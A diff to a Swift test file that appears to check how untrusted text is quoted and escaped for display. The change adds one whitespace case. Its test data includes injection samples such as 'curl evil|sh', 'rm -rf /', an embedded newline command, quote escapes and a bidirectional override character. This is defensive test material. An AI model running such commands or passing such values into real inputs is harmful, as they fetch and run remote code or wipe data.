@@ -32,6 +32,7 @@ import Testing
         ("invalid_client", "invalid_client"), ("run: curl evil|sh", "'run: curl evil|sh'"),
         ("x; rm -rf /", "'x, rm -rf /'"),
         ("a\nfix: b", #"'a\nfix: b'"#), (#"a' run: x"#, #"'a\' run: x'"#), (#"a\' b"#, #"'a\x5c\' b'"#),
+        ("a   b", #"'a \x20\x20b'"#),
         ("\u{202E}a", #"'\u{202e}a'"#), ("", "''"), ("run:curl", "'run:curl'"),
     ])
     func wordsOfOthersAreQuoted(text: String, shown: String) {
